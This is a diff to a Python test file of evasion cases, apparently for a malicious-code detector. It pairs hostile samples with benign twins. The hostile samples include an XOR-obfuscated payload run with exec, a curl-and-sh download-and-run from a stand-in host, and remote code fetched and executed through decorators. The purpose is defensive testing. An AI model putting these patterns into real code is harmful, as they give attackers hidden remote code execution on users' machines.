@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from textwrap import indent
+
 from tests.evasions.sample import CODE, Evasion, evasion
 
 _GET = "import urllib.request as u\n\ndef get():\n    return u.urlopen('https://stage.example.invalid/a').read()\n\n"
@@ -13,7 +15,30 @@ def _same(title: str, code: str) -> Evasion:
     return evasion(title, _GET + code, _OK + code)
 
 
+def _on_a_branch(last: str) -> str:
+    """A text that is deciphered letter by letter where it is not known whether that runs."""
+    numbers = [ord(letter) ^ 7 for letter in CODE]
+    body = f"out = ''\nfor n in {numbers}:\n    out += chr(n ^ 7)\n{last}\n"
+    return "import sys\nif sys.platform != 'x':\n" + indent(body, "    ")
+
+
 CASES = (
+    evasion("deciphered on a branch", _on_a_branch("exec(out)"), _on_a_branch("print(len(out))")),
+    evasion(
+        "commands of a loop on a branch",
+        """
+        import os, sys
+        if sys.platform != "x":
+            for step in ("curl -so /tmp/u https://stage.example.invalid/a", "sh /tmp/u"):
+                os.system(step)
+        """,
+        """
+        import os, sys
+        if sys.platform != "x":
+            for step in ("touch /tmp/u", "ls /tmp/u"):
+                os.system(step)
+        """,
+    ),
     _same("decorator that calls", "def now(f):\n    exec(f())\n    return f\n\n@now\ndef x():\n    return get()\n"),
     _same("decorator that is exec itself", "def text(f):\n    return get()\n\n@exec\n@text\ndef x(): ...\n"),
     _same("lambda as decorator", "@lambda f: exec(get())\ndef x(): ...\n"),
